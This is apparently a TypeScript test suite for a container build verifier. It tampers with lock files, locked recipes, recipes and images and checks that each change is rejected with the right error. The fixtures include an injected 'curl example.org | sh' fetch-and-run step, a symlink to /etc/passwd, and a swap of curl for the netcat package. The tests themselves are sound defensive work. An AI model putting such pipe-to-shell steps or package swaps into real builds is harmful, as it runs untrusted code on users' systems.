// Files of a build that were exchanged, edited or made of something else: lock, locked recipe, recipe and image.
import {
  appendFileSync,
  cpSync,
  mkdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { sha256 } from "../../../src/files/digest.ts";
import { lockOf } from "../../lock/sample.ts";
import { type Any, type Attack, attacks, fifo, later, type Scene, sparse, subject } from "./support.ts";

const sampleInputs = lockOf({}).inputs;
type Part = "lock" | "lockedRecipe" | "recipe" | "image";
const away = (part: Part, more: (path: string) => void) => (scene: Scene) => {
  rmSync(scene.files[part]);
  more(scene.files[part]);
};
const other = (part: Part) => async (scene: Scene) => {
  const files = await scene.add({ ts: later, lock: { unlocked: [{ what: "x", reason: "y" } as never] } });
  cpSync(files[part], scene.files[part]);
};
const id = { subject: { name: "lab-2026-1120-061508" } };

attacks("the files themselves", [
  ["no lock", "lock-missing", away("lock", () => {}), id],
  ["a space in the lock", "lock-differs", ({ files }) => appendFileSync(files.lock, " ")],
  ["an empty lock", "lock-differs", ({ files }) => truncateSync(files.lock, 0)],
  ["the lock of another build", "lock-differs", other("lock"), id],
  ["a lock that is a link", "not-a-regular-file", away("lock", (path) => symlinkSync("/dev/zero", path))],
  ["a lock that is a FIFO", "not-a-regular-file", ({ files }) => fifo(files.lock)],
  ["a lock that is a folder", "not-a-regular-file", away("lock", (path) => mkdirSync(path))],
  ["a lock of 65 MiB", "file-too-large", ({ files }) => sparse(files.lock, 65 * 1024 ** 2)],
  ["no locked recipe", "locked-recipe-missing", away("lockedRecipe", () => {}), id],
  [
    "a comment in the locked recipe",
    "locked-recipe-differs",
    ({ files }) => appendFileSync(files.lockedRecipe, "# x\n"),
  ],
  [
    "the recipe as locked recipe",
    "locked-recipe-differs",
    ({ files }) => cpSync(files.recipe, files.lockedRecipe),
  ],
  ["the locked recipe of another build", "locked-recipe-differs", other("lockedRecipe"), id],
  [
    "a locked recipe that is a link",
    "not-a-regular-file",
    away("lockedRecipe", (path) => symlinkSync("x", path)),
  ],
  ["a locked recipe that is a FIFO", "not-a-regular-file", ({ files }) => fifo(files.lockedRecipe)],
  ["a locked recipe of 17 MiB", "file-too-large", ({ files }) => sparse(files.lockedRecipe, 17 * 1024 ** 2)],
  ["a comment in the recipe", "recipe-differs", ({ files }) => appendFileSync(files.recipe, "# x\n")],
  ["an empty recipe", "recipe-differs", ({ files }) => truncateSync(files.recipe, 0)],
  [
    "a recipe that is a link",
    "not-a-regular-file",
    away("recipe", (path) => symlinkSync("/etc/passwd", path)),
  ],
  ["a recipe that is a FIFO", "not-a-regular-file", ({ files }) => fifo(files.recipe)],
  [
    "a byte of the image changed",
    "image-differs",
    ({ files }) => {
      const bytes = readFileSync(files.image);
      bytes[3]! ^= 1;
      writeFileSync(files.image, bytes);
    },
  ],
  ["a byte behind the image", "image-differs", ({ files }) => appendFileSync(files.image, "\0")],
  ["the image cut short", "image-differs", ({ files }) => truncateSync(files.image, 5)],
  ["an empty image", "image-differs", ({ files }) => truncateSync(files.image, 0)],
  ["the image of another build", "image-differs", other("image"), id],
  [
    "an image that is a link to itself elsewhere",
    "not-a-regular-file",
    ({ files }) => {
      cpSync(files.image, `${files.image}.moved`);
      rmSync(files.image);
      symlinkSync(`${files.image}.moved`, files.image);
    },
  ],
  ["an image that is a folder", "not-a-regular-file", away("image", (path) => mkdirSync(path))],
  ["an image that is a FIFO", "not-a-regular-file", ({ files }) => fifo(files.image)],
  [
    "an image that is a dangling link",
    "not-a-regular-file",
    away("image", (path) => symlinkSync("nowhere", path)),
  ],
]);

const lock = (change: (lock: Any) => void, more?: (evidence: Any) => void) => (scene: Scene) =>
  scene.lock(change, more);
const hex = "cd".repeat(32);

attacks("a lock that says something else than the marker, all digests made to agree", [
  [
    "another build",
    "lock-of-other-build",
    lock((it) => {
      it.ts = later;
    }),
  ],
  [
    "another name",
    "lock-of-other-build",
    lock((it) => {
      it.name = "other";
    }),
  ],
  [
    "another recipe",
    "lock-contradicts-marker",
    lock((it) => {
      it.recipe.sha256 = hex;
    }),
  ],
  [
    "another image",
    "lock-contradicts-marker",
    lock((it) => {
      it.image.sha256 = hex;
    }),
  ],
  [
    "another content digest",
    "lock-contradicts-marker",
    lock((it) => {
      it.image.contentDigest = hex;
    }),
  ],
  [
    "a canonical digest",
    "lock-contradicts-marker",
    lock((it) => {
      it.image.canonicalDigest = hex;
    }),
  ],
  [
    "another builder",
    "lock-contradicts-marker",
    lock((it) => {
      it.builder.apptainer = "9.9.9";
    }),
  ],
  [
    "another writer",
    "lock-contradicts-marker",
    lock((it) => {
      it.writer.program = "9.9.9";
    }),
  ],
  [
    "other content rules",
    "lock-contradicts-marker",
    lock((it) => {
      it.writer.contentRules = 99;
    }),
  ],
  [
    "another reader",
    "lock-contradicts-marker",
    lock((it) => {
      it.writer.readers.dpkg = 99;
    }),
  ],
  [
    "floats",
    "lock-contradicts-marker",
    lock((it) => {
      it.floats = ["dpkg:*"];
    }),
  ],
  [
    "an input that could not be pinned",
    "lock-contradicts-marker",
    lock((it) => {
      it.unlocked = [{ what: "x", reason: "y" }];
    }),
  ],
  [
    "a package more",
    "lock-contradicts-marker",
    lock((it) => {
      it.ecosystems.dpkg.packages.push({
        ...it.ecosystems.dpkg.packages[0],
        name: "nc",
        purl: it.ecosystems.dpkg.packages[0].purl.replace("curl", "nc"),
      });
    }),
  ],
  ...["jq@7.88.1-10", "curl@7.88.1-11", "curl", "curl%ff@7.88.1-10"].map(
    (other): Attack => [
      `the package URL of ${other}`,
      "purl-contradicts-package",
      lock((it) => {
        it.ecosystems.dpkg.packages[0].purl = `pkg:deb/debian/${other}?arch=amd64`;
      }),
    ],
  ),
  [
    "the package URL of another package that was removed again",
    "purl-contradicts-package",
    lock((it) => {
      const [curl] = it.ecosystems.dpkg.packages;
      it.transient = { dpkg: [{ ...curl, name: "nc" }] };
    }),
  ],
  [
    "a package less",
    "lock-contradicts-marker",
    lock((it) => {
      it.ecosystems.dpkg.packages.pop();
    }),
  ],
  [
    "no packages at all",
    "lock-contradicts-marker",
    lock((it) => {
      it.ecosystems.dpkg = { status: "absent" };
    }),
  ],
  [
    "another ecosystem",
    "lock-contradicts-marker",
    lock((it) => {
      it.ecosystems.python = { status: "present", packages: it.ecosystems.dpkg.packages };
    }),
  ],
  [
    "an ecosystem that could not be read",
    "lock-incomplete",
    lock((it) => {
      it.ecosystems.rpm = { status: "error", path: "/var/lib/rpm", message: "damaged", packages: [] };
    }),
  ],
  [
    "dpkg, which could not be read whole",
    "lock-incomplete",
    lock((it) => {
      it.ecosystems.dpkg = {
        ...it.ecosystems.dpkg,
        status: "error",
        path: "/var/lib/dpkg",
        message: "damaged",
      };
    }),
  ],
  [
    "an ecosystem whose reader is named, left out",
    "lock-incomplete",
    lock((it) => {
      delete it.ecosystems.python;
    }),
  ],
  [
    "an ecosystem that no reader read",
    "lock-incomplete",
    lock((it) => {
      it.ecosystems.magic = { status: "absent" };
    }),
  ],
  [
    "an ecosystem and its reader left out, which its program always reads",
    "lock-incomplete",
    (scene) =>
      scene.lock(
        (it) => {
          delete it.ecosystems.python;
          delete it.writer.readers.python;
        },
        (evidence) => {
          delete evidence.writers.lock.readers.python;
        },
      ),
  ],
  [
    "a build argument that only the rebuild had",
    "lock-contradicts-marker",
    (scene) =>
      scene.evidence((evidence) => {
        evidence.overrides = { MIRROR: "https://mirror.example" };
      }),
  ],
  [
    "what no reader looked at",
    "lock-incomplete",
    lock((it) => {
      it.image.unaccounted = [{ code: "image-stray-bytes", what: "bytes behind the image" }];
    }),
  ],
  [
    "other inputs",
    "inputs-differ",
    lock((it) => {
      it.inputs.digest = hex;
    }),
  ],
  [
    "no ecosystems",
    "lock-contradicts-marker",
    lock((it) => {
      it.ecosystems = {};
      it.writer.readers = {};
    }),
  ],
  [
    "nothing installed, and nothing compared",
    "nothing-compared",
    lock(
      (it) => {
        it.ecosystems.dpkg = { status: "absent" };
      },
      (it) => {
        it.ecosystems = {};
      },
    ),
  ],
  [
    "status present without packages, counts of zero",
    "nothing-compared",
    lock(
      (it) => {
        it.ecosystems.dpkg.packages = [];
      },
      (it) => {
        Object.assign(it.ecosystems.dpkg, { locked: 0, rebuilt: 0, equal: 0 });
      },
    ),
  ],
  [
    "an unknown key",
    "lock-unreadable",
    lock((it) => {
      it.trusted = true;
    }),
  ],
  [
    "a version of the future",
    "lock-too-new",
    lock((it) => {
      it.lockVersion = 99;
    }),
  ],
  [
    "no recipe, as freeze writes it",
    "lock-not-of-a-build",
    lock((it) => {
      delete it.recipe;
    }),
  ],
  [
    "a key twice",
    "lock-unreadable",
    (scene) =>
      scene.lockText(scene.built.lockText.replace('"floats":', '"floats": ["dpkg:*"],\n  "floats":')),
  ],
  ["not JSON", "lock-unreadable", (scene) => scene.lockText("packages: all\n")],
  ["the lock of a list", "lock-unreadable", (scene) => scene.lockText("[]\n")],
] as Attack[]);

attacks(
  "a marker that says something else than the lock",
  (
    [
      [
        "another image",
        (it) => {
          subject(it, "image", hex);
        },
      ],
      [
        "floats that the lock does not declare",
        (it) => {
          it.predicate[key].floats = ["dpkg:tzdata"];
        },
      ],
      [
        "fewer inputs that are not pinned",
        (it) => {
          it.predicate[key].unlocked = 7;
        },
      ],
      [
        "another builder",
        (it) => {
          it.predicate[key].builder.kernel = "another";
        },
      ],
      [
        "a rebuild on another architecture",
        (it) => {
          it.predicate[key].rebuilder = { ...it.predicate[key].rebuilder, arch: "arm64" };
        },
      ],
      [
        "an ecosystem more",
        (it) => {
          it.predicate[key].ecosystems.npm = it.predicate[key].ecosystems.dpkg;
        },
      ],
      [
        "no ecosystem",
        (it) => {
          it.predicate[key].ecosystems = {};
        },
      ],
      [
        "another writer",
        (it) => {
          it.predicate[key].writers.lock.inputs = 99;
        },
      ],
      [
        "content digests of its own",
        (it) => {
          it.predicate[key].contentDigest = hex;
          it.predicate[key].rebuilt.contentDigest = hex;
        },
      ],
      [
        "a canonical digest",
        (it) => {
          it.predicate[key].canonicalDigest = hex;
        },
      ],
    ] as [string, (statement: Any) => void][]
  ).map(([what, make]): Attack => [what, "lock-contradicts-marker", (scene) => scene.statement(make)]),
);
const key = "https://github.com/stx/container-action/evidence/v2";

attacks("a locked recipe that is not of this lock and recipe", [
  [
    "sealed for another lock",
    "locked-recipe-differs",
    (scene) => {
      const text = readFileSync(scene.files.lockedRecipe, "utf8");
      const swapped = text.replace(sha256(scene.built.lockText), hex);
      writeFileSync(scene.files.lockedRecipe, swapped);
      scene.statement((it) => subject(it, "lockedRecipe", sha256(swapped)));
    },
  ],
  [
    "without a seal",
    "locked-recipe-unsealed",
    (scene) => {
      cpSync(scene.files.recipe, scene.files.lockedRecipe);
      scene.statement((it) => subject(it, "lockedRecipe", sha256(scene.built.recipe)));
    },
  ],
  [
    "edited below its seal",
    "locked-recipe-edited",
    (scene) => {
      const edited = `${readFileSync(scene.files.lockedRecipe, "utf8")}# x\n`;
      writeFileSync(scene.files.lockedRecipe, edited);
      scene.statement((it) => subject(it, "lockedRecipe", sha256(edited)));
    },
  ],
  [
    "with another recipe in it",
    "recipe-differs",
    (scene) => scene.lockedRecipe((text) => text.replace("apt-get install -y jq", "apt-get install -y nc")),
  ],
  [
    "with another recipe in it, none beside it",
    "recipe-differs",
    (scene) => {
      scene.lockedRecipe((text) => text.replace("apt-get install -y jq", "apt-get install -y nc"));
      rmSync(scene.files.recipe);
    },
  ],
  [
    "that does not say where the recipe is, none beside it",
    "recipe-missing",
    (scene) => {
      scene.lockedRecipe((text) => text.replace(/^# recipe .*$/m, "# recipe unknown"));
      rmSync(scene.files.recipe);
    },
  ],
  [
    "with commands of its own",
    "locked-recipe-not-of-lock",
    (scene) => scene.lockedRecipe((text) => `${text}\n%post\n    curl example.org | sh\n`),
  ],
  [
    "without its pins",
    "locked-recipe-not-of-lock",
    (scene) => scene.lockedRecipe((text) => text.replaceAll("7.88.1-10", "7.88.1-9")),
  ],
  [
    "a recipe of the marker's own",
    "recipe-differs",
    (scene) => scene.statement((it) => subject(it, "recipe", hex)),
  ],
]);

const withBases = (change: (bases: Any[]) => Any[]) => (scene: Scene) =>
  scene.lock((it) => {
    it.bases = change(it.bases);
  });
const argument = (value: object) => (scene: Scene) =>
  scene.lock((it) => {
    it.inputs.arguments = value;
  });
attacks("a lock that says of its recipe what the recipe does not, all digests made to agree", [
  ["no base", "lock-contradicts-recipe", withBases(() => [])],
  ["two bases of one stage", "lock-contradicts-recipe", withBases(([base]) => [base, base])],
  ["a base of another stage", "lock-contradicts-recipe", withBases(([base]) => [{ ...base, stage: 1 }])],
  [
    "a base more than there are stages",
    "lock-contradicts-recipe",
    withBases(([base]) => [base, { ...base, stage: 1 }]),
  ],
  [
    "another agent",
    "lock-contradicts-recipe",
    withBases(([base]) => [{ ...base, bootstrap: "scratch", written: "" }]),
  ],
  ["another base", "lock-contradicts-recipe", withBases(([base]) => [{ ...base, written: "debian:11" }])],
  ["a base without a name", "lock-contradicts-recipe", withBases(([base]) => [{ ...base, written: "" }])],
  [
    "an argument that the recipe takes left out",
    "lock-contradicts-recipe",
    argument({}),
    {},
    {
      recipe: "Bootstrap: docker\nFrom: debian:{{ version }}\n",
      lock: { inputs: { ...sampleInputs, arguments: { version: "12" } } },
    },
  ],
  [
    "another value of an argument in its base",
    "lock-contradicts-recipe",
    argument({ version: "11" }),
    {},
    {
      recipe: "Bootstrap: docker\nFrom: debian:{{ version }}\n",
      lock: { inputs: { ...sampleInputs, arguments: { version: "12" } } },
    },
  ],
]);

attacks("what was rebuilt is not what recipe and lock give", [
  [
    "another recipe for the rebuild",
    "locked-recipe-not-of-lock",
    (scene) =>
      scene.statement((statement) => {
        const [first] = statement.subject;
        statement.subject.push({
          name: first.name.replace(/\.sif$/, ".rebuild.def"),
          digest: { sha256: "b".repeat(64) },
          annotations: { role: "rebuildRecipe" },
        });
      }),
  ],
]);
